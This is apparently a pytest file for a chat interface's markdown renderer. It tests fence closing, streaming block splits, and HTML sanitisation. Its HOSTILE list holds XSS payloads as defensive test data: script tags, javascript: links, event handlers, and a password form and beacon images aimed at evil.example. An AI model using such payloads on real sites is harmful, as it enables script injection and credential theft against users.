"""Model output as markdown (ui/chat/markdown.py): inert HTML, and streaming cut into blocks that render like
the whole."""

from __future__ import annotations

import re

import pytest

from ui.chat.markdown import close_open_fence, render, split


@pytest.mark.parametrize(('streamed', 'shown'), [
    ('plain text', 'plain text'),
    ('code:\n```python\nx = 1', 'code:\n```python\nx = 1\n```'),
    ('code:\n```python\nx = 1\n```\nafter', 'code:\n```python\nx = 1\n```\nafter'),
    ('code:\n```\nx = 1\n``', 'code:\n```\nx = 1\n```'),
    ('text\n`', 'text'),
    ('inline `code` stays', 'inline `code` stays'),
])
def test_an_open_code_fence_is_closed_while_streaming(streamed: str, shown: str) -> None:
    assert close_open_fence(streamed) == shown


# --- inert -------------------------------------------------------------------------------------------------

HOSTILE = [
    '<style>body{display:none}</style>',
    '<div style="position:fixed;inset:0">cover</div>',
    '<form action="http://evil.example/"><input name=password></form>',
    '<img src="http://evil.example/beacon.png">',
    '<iframe src="http://evil.example/"></iframe>',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)" onclick="alert(2)">x</a>',
    '# h `a` b `\n<style>`x</style>',  # markdown2's own escaping lets this one through; the allow-list does not
    '![beacon](http://evil.example/b.png "t")',
    '[link](javascript:alert(1))',
    '| a | b |\n|:-:|---|\n| `<x>` | <style>y</style> |',
    '> <b onmouseover="alert(1)">quoted</b>',
]
ALLOWED_TAGS = {'p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'em',
                'strong', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'span', 'a'}


@pytest.mark.parametrize('source', HOSTILE)
def test_raw_html_in_model_output_comes_out_as_text(source: str) -> None:
    markup = render(source)
    tags = re.findall(r'<\s*/?\s*([a-zA-Z0-9]+)([^>]*)>', markup)
    assert {name.lower() for name, _ in tags} <= ALLOWED_TAGS, markup
    for _, attributes in tags:
        for attribute, value in re.findall(r'([\w-]+)="([^"]*)"', attributes):
            assert attribute in ('class', 'href', 'title', 'style'), markup
            if attribute == 'style':
                assert re.fullmatch(r'text-align:(left|right|center);?', value), markup
            if attribute == 'href':
                assert re.match(r'(https?:|mailto:|#|/[^/])', value) and 'javascript' not in value, markup
    assert '</script>' not in markup


def test_the_tags_read_as_text() -> None:
    assert render('<style>body{display:none}</style>') == '<p>&lt;style&gt;body{display:none}&lt;/style&gt;</p>\n'
    assert 'src=' not in render('![beacon](http://evil.example/b.png)')  # an image is a link, not a fetch


def test_code_shows_angle_brackets_and_ampersands_as_written() -> None:
    markup = render('Use `<b>` or `a && b`:\n\n```html\n<p>&amp;</p>\n```\n')
    assert '<code>&lt;b&gt;</code>' in markup
    assert '<code>a &amp;&amp; b</code>' in markup
    text = re.sub(r'<[^>]+>', '', markup.split('codehilite')[1])
    assert '&lt;p&gt;&amp;amp;&lt;/p&gt;' in text  # the browser shows <p>&amp;</p>, exactly as written


# --- streaming in blocks -------------------------------------------------------------------------------------

ANSWERS = [
    'Here is a list:\n\n1. one\n2. two\n\n3. three\n\nAnd then text.\n\n- a\n\n    continued para\n\n- b\n\nEnd.',
    '# Title\nIntro.\n\n```python\nx = 1\n\n\ny = "<b>"\n```\n\nAfter code.\n\n> quote one\n\n> quote two\n\nDone.',
    '| a | b |\n|---|:-:|\n| 1 | 2 |\n\ntext after the table\n\n---\n\nlast',
    'Para with `code <x>` and **bold**.\n\n    indented code\n\nnext\n',
    'unclosed fence:\n\n```js\nlet a = 1;\n\nlet b;',
    '<div>\n\nan HTML block\n\n</div>\n\nok',
    'Title\n=====\n\nSub\n---\n\ntext\n\n* one\n\n* two\n\nthe end',
]


@pytest.mark.parametrize('answer', ANSWERS)
def test_blocks_only_grow_and_render_like_the_whole(answer: str) -> None:
    done: list[str] = []
    for end in range(len(answer) + 1):
        blocks, rest = split(answer[:end])
        assert ''.join(blocks) + rest == answer[:end]
        assert blocks[:len(done)] == done, 'a finished block never changes'
        done = blocks
    pieces = [*done, answer[len(''.join(done)):]]
    assert squeeze(''.join(render(piece) for piece in pieces)) == squeeze(render(answer))


def test_a_long_answer_is_cut_into_many_blocks_and_code_stays_whole() -> None:
    answer = ''.join(f'Paragraph {i} with some words.\n\n' for i in range(20))
    answer += '```python\ndef f():\n\n    return 1\n```\n\nAfter.\n\nTail'
    blocks, rest = split(answer)
    assert len(blocks) == 21 and rest == 'After.\n\nTail'  # a block closes once the next line is complete
    assert blocks[20] == '```python\ndef f():\n\n    return 1\n```\n\n'


def test_lists_and_quotes_are_not_cut_between_their_items() -> None:
    blocks, _ = split('1. one\n\n2. two\n\n> a\n\n> b\n\nend\n\n')
    assert blocks == ['1. one\n\n2. two\n\n', '> a\n\n> b\n\n']


def test_reference_links_keep_the_text_whole() -> None:
    assert render('see [x][1]\n\n[1]: http://a.example') == '<p>see <a href="http://a.example">x</a></p>\n'
    assert split('see [x][1]\n\nmore\n\n[1]: http://a.example\n\n') == ([], 'see [x][1]\n\nmore\n\n'
                                                                          '[1]: http://a.example\n\n')


def squeeze(markup: str) -> str:
    return re.sub(r'>\s+<', '><', markup.strip())
